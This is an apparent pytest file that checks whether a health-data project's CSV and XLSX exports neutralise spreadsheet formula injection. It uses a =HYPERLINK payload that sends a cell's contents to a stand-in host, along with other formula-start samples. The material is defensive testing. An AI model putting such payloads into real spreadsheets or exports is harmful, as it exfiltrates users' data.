"""Exports cannot attack their reader: a name like =HYPERLINK("http://x/?"&B2) comes out of
every CSV and XLSX writer as text, never as a formula; negative numbers stay numbers."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from sqlalchemy.orm import Session

from tumbuh.imports.reporting import write_issues
from tumbuh.imports.service import write_quarantine
from tumbuh.register.models import QuarantinedRow
from tumbuh.tabular.guard import guard_arrow_text, guard_frame, neutralise
from tumbuh.tabular.issues import ImportReport, RowIssue
from tumbuh.tabular.writers import write_table

ATTACK = '=HYPERLINK("http://x/?"&B2)'
SRC = Path(__file__).resolve().parents[2] / "src" / "tumbuh"


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _no_formula(path: Path) -> list[openpyxl.cell.cell.Cell]:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


class TestNeutralise:
    @pytest.mark.parametrize(
        ("cell", "expected"),
        [
            (ATTACK, "'" + ATTACK),
            ("+62 812 555", "'+62 812 555"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-5", "-5"),
            ("-1.25", "-1.25"),
            ("+2e3", "+2e3"),
            ("Siti =1", "Siti =1"),
            ("", ""),
            (-3.5, -3.5),
            (None, None),
        ],
        ids=[
            "hyperlink", "plus", "minus-expr", "at", "tab", "cr", "neg-int",
            "neg-dec", "plus-exp", "inner-equals", "empty", "float", "none",
        ],
    )  # fmt: skip
    def test_prefixes_formula_starts_and_keeps_numbers(
        self, cell: object, expected: object
    ) -> None:
        assert neutralise(cell) == expected

    def test_the_arrow_version_agrees_with_the_scalar_one(self) -> None:
        cells = [ATTACK, "-5", "+62 8", "Ani", None, "@x", "-1e-3"]
        got = guard_arrow_text(pa.array(cells, pa.string())).to_pylist()
        assert got == [neutralise(c) for c in cells]

    def test_guard_frame_leaves_numeric_columns_as_numbers(self) -> None:
        frame = pd.DataFrame({"name": [ATTACK, "Ani"], "z": [-2.5, 1.0]})
        out = guard_frame(frame)
        assert out["name"].tolist() == ["'" + ATTACK, "Ani"]
        assert out["z"].tolist() == [-2.5, 1.0]
        assert frame["name"].tolist() == [ATTACK, "Ani"]  # the input is untouched


def _table() -> pa.Table:
    return pa.table(
        {
            "nama": [ATTACK, "Budi"],
            "zlen": [-2.31, 0.5],
            "catatan": ["-5", "@cmd"],
        }
    )


class TestTableWriters:
    def test_csv_export_holds_no_formula_and_negative_numbers(
        self, tmp_path: Path
    ) -> None:
        path = tmp_path / "out.csv"
        write_table(_table(), path)
        rows = _read_csv(path)
        assert rows[1] == ["'" + ATTACK, "-2.31", "-5"]
        assert rows[2] == ["Budi", "0.5", "'@cmd"]

    def test_xlsx_export_holds_text_cells_and_number_cells(
        self, tmp_path: Path
    ) -> None:
        path = tmp_path / "out.xlsx"
        write_table(_table(), path)
        cells = {c.coordinate: c for c in _no_formula(path)}
        assert cells["A2"].data_type == "s"
        assert cells["A2"].value == ATTACK
        assert cells["A2"].quotePrefix
        assert cells["B2"].data_type == "n"
        assert cells["B2"].value == -2.31
        assert cells["C2"].value == -5  # plain-number text stays a number
        assert cells["C3"].value == "@cmd"
        assert cells["C3"].data_type == "s"

    def test_a_header_that_looks_like_a_formula_is_text(self, tmp_path: Path) -> None:
        table = pa.table({"=1+1": ["a"]})
        write_table(table, tmp_path / "h.csv")
        assert _read_csv(tmp_path / "h.csv")[0] == ["'=1+1"]
        write_table(table, tmp_path / "h.xlsx")
        assert _no_formula(tmp_path / "h.xlsx")[0].value == "=1+1"


class TestReportAndQuarantineExports:
    def _report(self) -> ImportReport:
        issue = RowIssue(
            file=ATTACK + ".csv",
            row=2,
            column="nama",
            code="bad_name",
            message_id="nama aneh",
            message_en="odd name",
            value=ATTACK,
        )
        return ImportReport(kind="eppgbm", issues=[issue])

    def test_the_issues_report_xlsx_holds_no_formula(self, tmp_path: Path) -> None:
        path = tmp_path / "issues.xlsx"
        write_issues(self._report(), path)
        values = [c.value for c in _no_formula(path)]
        assert ATTACK in values

    def test_the_issues_report_csv_is_neutralised(self, tmp_path: Path) -> None:
        path = tmp_path / "issues.csv"
        write_issues(self._report(), path)
        rows = _read_csv(path)
        assert rows[1][0] == "'" + ATTACK + ".csv"
        assert rows[1][5] == "'" + ATTACK

    def test_the_quarantine_export_is_neutralised(
        self, session: Session, tmp_path: Path
    ) -> None:
        session.add(
            QuarantinedRow(
                kind="guardtest",
                file="posyandu.csv",
                row=7,
                row_key="k" * 32,
                alt_key="a" * 32,
                raw={"Nama": ATTACK, "BB": "-1", "=col": "x"},
                issues=[{"column": "Nama", "message_id": "=x", "message_en": "=y"}],
            )
        )
        session.flush()
        path = tmp_path / "quarantine.csv"
        assert write_quarantine(session, kind="guardtest", path=path) == 1
        header, row = _read_csv(path)
        assert header[:3] == ["Nama", "BB", "'=col"]
        assert row[:3] == ["'" + ATTACK, "-1", "x"]


# Writers that may write CSV/XLSX without the guard: they write synthetic input data or
# an import's own input file, never an export for a reader.
# exchange/dhis2.py writes a temporary CSV that only the figures importer reads back.
_UNGUARDED_OK = {
    "synth",
    "web/pages/imports.py",
    "tabular/guard.py",
    "exchange/dhis2.py",
}
_WRITER = re.compile(
    r"xlsxwriter\.Workbook\(|\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\("
)
_GUARDED = re.compile(r"guard_frame\(|XLSX_ENGINE_KWARGS|engine_kwargs=")


def test_every_csv_and_xlsx_writer_goes_through_the_guard() -> None:
    unguarded = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if any(rel == ok or rel.startswith(ok + "/") for ok in _UNGUARDED_OK):
            continue
        text = path.read_text(encoding="utf-8")
        lines = text.splitlines()
        for i, line in enumerate(lines):
            if not _WRITER.search(line):
                continue
            window = "\n".join(lines[max(0, i - 2) : i + 3])
            csv_module = "csv.writer(" in line or "csv.DictWriter(" in line
            if csv_module and "neutralise" in text:
                continue
            if not csv_module and _GUARDED.search(window):
                continue
            unguarded.append(f"{rel}:{i + 1}: {line.strip()}")
    assert unguarded == []


def test_the_web_table_download_holds_no_formula() -> None:
    import io

    from tumbuh.web.export import xlsx_bytes

    data = xlsx_bytes("anak", ["nama", "zlen"], [[ATTACK, -2.5], ["Budi", 1.0]])
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = {c.coordinate: c for row in book.active.iter_rows() for c in row}
    assert not any(c.data_type == "f" for c in cells.values())
    assert (cells["A2"].value, cells["A2"].data_type) == (ATTACK, "s")
    assert (cells["B2"].value, cells["B2"].data_type) == (-2.5, "n")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_krs_command_output_holds_no_formula(tmp_path: Path, suffix: str) -> None:
    from tumbuh.cli.krs import _write

    path = tmp_path / f"krs{suffix}"
    _write(pd.DataFrame({"kepala": [ATTACK], "skor": [-1]}), path)
    if suffix == ".csv":
        assert _read_csv(path)[1] == ["'" + ATTACK, "-1"]
    else:
        cells = _no_formula(path)
        assert [c.value for c in cells] == ["kepala", "skor", ATTACK, -1]
